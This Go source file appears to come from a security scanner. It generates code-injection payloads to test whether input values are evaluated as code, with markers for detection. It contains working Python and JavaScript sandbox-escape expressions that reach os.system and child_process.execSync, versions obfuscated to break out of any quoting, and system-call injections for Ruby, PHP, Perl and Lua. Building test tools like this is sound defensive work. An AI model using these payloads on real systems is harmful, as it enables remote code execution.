package attack

import (
	"fmt"
	"slices"
	"strconv"
	"strings"

	"github.com/mcpsf/mcpsf"
)

func codeEvaluation() Class {
	return Class{
		ID:    "code-evaluation",
		Title: "A value is run as code",
		Yield: kinds{
			"code": 95, "template": 40, "query": 45, "json": 40, "unknown": 35, "text": 30, "name": 25, "argument": 25,
			"number": 60, "data": 20, "id": 15, "date": 15, "regexp": 15, "sql": 5, "command": 20, "markup": 10,
		}.about(prose(80), "expression", "formula", "rule", "condition", "evaluate", "calculat", "comput", "script", "lambda", "predicate", "python", "math", "filter"),
		Payloads: codePayloads,
		Balanced: 5,
	}
}

// Expressions that run a program. They need no import, and escape from an
// evaluation without built-ins and from a vm context.
const (
	pythonRuns = "[c for c in ().__class__.__base__.__subclasses__() if c.__name__=='_wrap_close'][0].__init__.__globals__['system']('§')"
	scriptRuns = "(p=>(p.getBuiltinModule?p.getBuiltinModule('child_process'):p.mainModule.require('child_process')).execSync('§'))(typeof process!='undefined'?process:this.constructor.constructor('return process')())"
)

// The same without quotes, so that they fit inside quotes of every kind.
func scriptUnquoted(program string) string {
	letters := func(s string) string { return "String.fromCharCode(" + numbers(s) + ")" }
	return "(p=>p.getBuiltinModule(" + letters("child_process") + ").execSync(" + letters(program) +
		"))(globalThis.process||this.constructor.constructor(" + letters("return process") + ")())"
}

func pythonUnquoted(program string) string {
	letters := func(s string) string { return "bytes([" + numbers(s) + "]).decode()" }
	return "[c for c in ().__class__.__base__.__subclasses__() if c.__name__==" + letters("_wrap_close") +
		"][0].__init__.__globals__[" + letters("system") + "](" + letters(program) + ")"
}

// Forms that put an expression without quotes into code, whatever quotes
// surround the value. In JavaScript: none, or quotes of three kinds. In Python,
// where comments have no end: quotes of two kinds or an f-string.
const (
	scriptAnywhere = "§/*'+§+'\"+§+\"${§}*/"
	pythonAnywhere = "{§}'+str(§)+'\"+str(§)+\" "
)

// codeForms run a program, which no harmless expression evaluator does.
func codeForms() [][2]string {
	return [][2]string{
		{"'+str(" + pythonRuns + ")+'", "Python in single quotes"},
		{"'+" + scriptRuns + "+'", "JavaScript in single quotes"},
		{"__import__('os').system('§')", "Python that imports"},
		{"require('child_process').execSync('§')", "JavaScript that requires"},
		{scriptRuns, "JavaScript that runs a program"},
		{"1)+str(" + pythonRuns + ")+str(1", "Python in brackets"},
		{"1);" + scriptRuns + ";(1", "JavaScript in brackets"},
		{"¤;" + scriptRuns + ";//", "second statement of JavaScript"},
		{"¤\n" + pythonRuns + "\n#", "second statement of Python"},
		{"import('child_process').then(c=>c.execSync('§')).catch(()=>0)", "JavaScript that imports"},
		{"`§`", "Ruby and Perl that run a program"},
		{"system('§')", "Ruby, Perl and PHP that run a program"},
		{"os.execute('§')", "Lua that runs a program"},
	}
}

// sumForms print a product with its digits reversed, which no calculator does.
// § is the product as an expression.
func sumForms() [][2]string {
	return [][2]string{
		{"str(§)[::-1]", "Python that reverses a product"},
		{fill(scriptAnywhere, "", "[...String(§)].reverse().join(String())"), "JavaScript in any quoting that reverses a product"},
		{fill(pythonAnywhere, "", "str(§)[::-1]"), "Python in any quoting that reverses a product"},
		{"print(str(§)[::-1])", "Python that prints"},
		{"console.log([...String(§)].reverse().join(''))", "JavaScript that prints"},
		{"return [...String(§)].reverse().join('')", "JavaScript that returns"},
		{"(§).to_s.reverse", "Ruby that reverses a product"},
		{"strrev(§)", "PHP that reverses a product"},
	}
}

func codePayloads(w *World, p Place) []Payload {
	ordinary := p.text()
	var runs, sums []Payload
	add := func(why string, value func(program string) string) {
		program := w.Program(codePrograms + len(runs))
		runs = append(runs, Payload{Value: value(program), Sign: mcpsf.SignExec, Marker: program, Why: why})
	}
	add("Python that runs a program", func(m string) string { return fill(pythonRuns, "", m) })
	add("JavaScript in any quoting that runs a program", func(m string) string { return fill(scriptAnywhere, "", scriptUnquoted(m)) })
	add("Python in any quoting that runs a program", func(m string) string { return fill(pythonAnywhere, "", pythonUnquoted(m)) })
	for _, f := range codeForms() {
		add(f[1], func(m string) string { return fill(f[0], ordinary, m) })
	}
	for i, f := range sumForms() {
		a, b, product := w.Number("code", i)
		value := fill(f[0], ordinary, fmt.Sprintf("%d*%d", a, b))
		sums = append(sums, Payload{Value: value, Sign: mcpsf.SignAnswer, Marker: reversed(product), Why: f[1]})
	}
	return slices.Concat(runs[:3], sums[:2], runs[3:], sums[2:])
}

func reversed(n int) string {
	digits := []byte(strconv.Itoa(n))
	slices.Reverse(digits)
	return string(digits)
}

// numbers returns the character codes of a word.
func numbers(word string) string {
	var all []string
	for _, b := range []byte(word) {
		all = append(all, strconv.Itoa(int(b)))
	}
	return strings.Join(all, ",")
}
